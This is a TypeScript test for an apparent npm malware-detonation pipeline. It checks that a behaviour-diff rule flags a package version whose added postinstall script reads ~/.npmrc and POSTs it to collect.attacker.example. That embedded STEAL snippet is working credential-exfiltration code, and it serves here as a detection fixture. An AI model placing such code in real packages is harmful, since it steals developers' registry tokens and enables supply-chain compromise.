// new-behavior against real detonations: version 1.0.0 has a harmless build step; 1.0.1 of the
// same package adds a postinstall that reads ~/.npmrc and posts it to a .example host. The diff
// between the two reports (from @vetbox/diff) feeds the new-behavior rule: 1.0.1 is malicious
// and its new-behavior finding cites the added credential read, host, request and process. Run
// with the sinkhole, as in production, so lookups and requests are captured by name.
import { randomUUID } from 'node:crypto';
import { rm } from 'node:fs/promises';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Report, StagedPackage } from '@vetbox/contracts';
import { diffReports } from '@vetbox/diff';
import { evaluate, withBaseline } from '@vetbox/rules';
import { detonate } from '@vetbox/pipeline';
import { DockerRuntime, LABEL_ANALYSIS, ensureSandboxImage } from '@vetbox/sandbox';
import { stageNpm } from '../fixtures/sandbox/stage.js';

const runtime = new DockerRuntime();
const used: string[] = [];
const cleanup: string[] = [];
const limits = { graceMs: 1000, phaseTimeoutMs: 120_000 };
let image = '';

beforeAll(async () => {
  image = await ensureSandboxImage(runtime, { build: true });
}, 600_000);

afterEach(async () => {
  for (const id of used.splice(0)) expect(await runtime.listByLabel(LABEL_ANALYSIS, id)).toEqual([]);
});

afterAll(async () => {
  await Promise.all(cleanup.map((dir) => rm(dir, { recursive: true, force: true })));
});

/** Detonated as production does (sinkhole, canaries, leaks, rules), without a baseline. */
async function analyze(staged: StagedPackage): Promise<Report> {
  cleanup.push(staged.dir);
  const analysisId = `test-rules-diff-${randomUUID()}`;
  used.push(analysisId);
  return (await detonate(staged, { analysisId, image, limits })).report;
}

const BUILD = "require('fs').writeFileSync(require('path').join(__dirname, 'built.js'), 'module.exports = 1;\\n');\n";
const STEAL = `
const fs = require('fs'), os = require('os'), http = require('http');
let body = '';
try { body = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
const req = http.request({ host: 'collect.attacker.example', path: '/u', method: 'POST' }, (res) => res.resume());
req.on('error', () => {});
req.end(body);
`;

describe('new-behavior over a real behavior diff', () => {
  it('1.0.1 adds a ~/.npmrc read and a .example host: malicious, with new-behavior citing them', async () => {
    const base = await analyze(await stageNpm({ name: 'left-padder', version: '1.0.0', scripts: { install: 'node build.js' }, files: { 'build.js': BUILD, 'index.js': 'module.exports = 1;\n' } }));
    const target = await analyze(
      await stageNpm({
        name: 'left-padder',
        version: '1.0.1',
        scripts: { install: 'node build.js', postinstall: 'node steal.js' },
        files: { 'build.js': BUILD, 'steal.js': STEAL, 'index.js': 'module.exports = 1;\n' },
      }),
    );
    expect(base.verdict, JSON.stringify(base.findings, null, 1)).toBe('benign');

    const diff = diffReports(base, target);
    const updated = withBaseline({ findings: target.findings, verdict: target.verdict as 'malicious', score: target.score, summary: target.summary ?? '' }, diff);
    const finding = updated.findings.find((f) => f.rule === 'new-behavior');
    const text = JSON.stringify({ added: diff.added, finding }, null, 1);
    expect(updated.verdict, text).toBe('malicious');
    expect(finding?.severity, text).toBe('high');
    const cited = finding!.evidence.map((e) => diff.changes[e.index!]!.key);
    expect(cited, text).toContain('credential-store-read');
    expect(cited, text).toContain('read ~/.npmrc');
    expect(cited, text).toContain('dns:collect.attacker.example');
    expect(cited.some((k) => k.startsWith('http') && k.includes('POST collect.attacker.example/u')), text).toBe(true);
    expect(cited, text).toContain('sh -c node steal.js');

    // The same version analyzed twice: an empty diff, no new-behavior finding.
    const again = await analyze(await stageNpm({ name: 'left-padder', version: '1.0.0', scripts: { install: 'node build.js' }, files: { 'build.js': BUILD, 'index.js': 'module.exports = 1;\n' } }));
    const same = diffReports(base, again);
    expect(same.empty, JSON.stringify(same.changes)).toBe(true);
    expect(withBaseline({ findings: [], verdict: 'benign', score: 0, summary: '' }, same).findings).toEqual([]);
  }, 600_000);
});
